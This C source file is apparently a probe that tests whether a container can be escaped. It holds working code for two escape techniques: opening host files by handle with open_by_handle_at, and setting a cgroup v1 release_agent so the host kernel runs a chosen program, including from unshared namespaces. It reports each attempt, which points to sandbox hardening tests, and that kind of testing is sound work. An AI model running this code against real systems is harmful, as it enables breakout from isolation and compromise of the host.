// A static program that attacks from inside a container, by system calls that no safe Rust can make.
//
//   escapes handle FILE                    outside of a container: "TYPE HEX", the file's handle (name_to_handle_at(2))
//   escapes by-handle MOUNT TYPE HEX N     opens a file by its handle, N times, on the mount of the file MOUNT; prints
//                                          "ok TEXT", or the last error's number
//   escapes agent PROGRAM [OPTIONS]...     mounts a v1 hierarchy by each of the options, in the namespaces that it is
//                                          in and in new ones, and makes PROGRAM the release agent (cgroups(7)) of it
//                                          and of each hierarchy below /sys/fs/cgroup; prints a line for each attempt
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

union handle {
    struct file_handle head;
    char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
};

static int handle(const char *path) {
    union handle of = {.head = {.handle_bytes = MAX_HANDLE_SZ}};
    int mount;
    if (name_to_handle_at(AT_FDCWD, path, &of.head, &mount, 0) != 0) {
        perror(path);
        return 1;
    }
    printf("%d ", of.head.handle_type);
    for (unsigned place = 0; place < of.head.handle_bytes; place++) {
        printf("%02x", of.head.f_handle[place]);
    }
    printf("\n");
    return 0;
}

static int by_handle(const char *mount, int type, const char *hex, int times) {
    union handle of = {.head = {.handle_type = type}};
    for (; of.head.handle_bytes < MAX_HANDLE_SZ && sscanf(hex, "%2hhx", &of.head.f_handle[of.head.handle_bytes]) == 1; hex += 2) {
        of.head.handle_bytes++;
    }
    int on = open(mount, O_RDONLY | O_CLOEXEC);
    if (on < 0) {
        perror(mount);
        return 1;
    }
    int error = 0;
    for (int attempt = 0; attempt < times; attempt++) {
        char text[256];
        int file = open_by_handle_at(on, &of.head, O_RDONLY | O_CLOEXEC);
        ssize_t length = file < 0 ? -1 : read(file, text, sizeof text);
        if (length >= 0) {
            printf("ok %.*s\n", (int)length, text);
            return 0;
        }
        error = errno;
    }
    printf("%d\n", error);
    return 0;
}

static int write_file(const char *directory, const char *name, const char *text) {
    char path[1024];
    snprintf(path, sizeof path, "%s/%s", directory, name);
    int file = open(path, O_WRONLY | O_CLOEXEC);
    if (file < 0) {
        return -1;
    }
    ssize_t written = write(file, text, strlen(text));
    int error = errno;
    close(file);
    errno = error;
    return written == (ssize_t)strlen(text) ? 0 : -1;
}

// Sets the agent of the hierarchy at `top`, and empties a cgroup of it, which has the kernel run the agent.
static int release(const char *top, const char *program) {
    char cgroup[512];
    snprintf(cgroup, sizeof cgroup, "%s/escape", top);
    if (write_file(top, "release_agent", program) != 0 || (mkdir(cgroup, 0755) != 0 && errno != EEXIST) ||
        write_file(cgroup, "notify_on_release", "1") != 0) {
        return -1;
    }
    pid_t child = fork();
    if (child == 0) {
        _exit(write_file(cgroup, "cgroup.procs", "0") == 0 ? 0 : errno);
    }
    int status;
    if (child < 0 || waitpid(child, &status, 0) != child) {
        return -1;
    }
    errno = WEXITSTATUS(status);
    return status == 0 ? 0 : -1;
}

static void report(const char *what, const char *where, int result) {
    printf("%s %s: %s\n", what, where, result == 0 ? "ok" : strerror(errno));
    fflush(stdout);
}

// An existing mount.
static void release_mounted(const char *program) {
    static const char top[] = "/sys/fs/cgroup";
    report("mounted", top, release(top, program));
    DIR *directory = opendir(top);
    for (struct dirent *entry; directory != NULL && (entry = readdir(directory)) != NULL;) {
        char path[512];
        snprintf(path, sizeof path, "%s/%s", top, entry->d_name);
        if (entry->d_type == DT_DIR && entry->d_name[0] != '.') {
            report("mounted", path, release(path, program));
        }
    }
}

static void release_new(const char *program, char **options, int unshared) {
    const char *what = unshared ? "unshared" : "own";
    if (unshared) {
        int result = unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP);
        report(what, "namespaces", result);
        if (result != 0 || write_file("/proc/self", "uid_map", "0 0 1") != 0) {
            return;
        }
    }
    mkdir("/escape", 0755);
    for (; *options != NULL; options++) {
        int result = mount("cgroup", "/escape", "cgroup", 0, *options);
        if (result == 0) {
            result = release("/escape", program);
            int error = errno;
            umount2("/escape", MNT_DETACH);
            errno = error;
        }
        report(what, *options, result);
    }
}

static int agent(const char *program, char **options) {
    release_mounted(program);
    for (int unshared = 0; unshared < 2; unshared++) {
        pid_t child = fork();
        if (child == 0) {
            release_new(program, options, unshared);
            _exit(0);
        }
        waitpid(child, NULL, 0);
    }
    return 0;
}

int main(int count, char **words) {
    const char *verb = count > 2 ? words[1] : "";
    if (strcmp(verb, "handle") == 0) {
        return handle(words[2]);
    }
    if (strcmp(verb, "by-handle") == 0 && count == 6) {
        return by_handle(words[2], atoi(words[3]), words[4], atoi(words[5]));
    }
    if (strcmp(verb, "agent") == 0) {
        return agent(words[2], words + 3);
    }
    return 2;
}
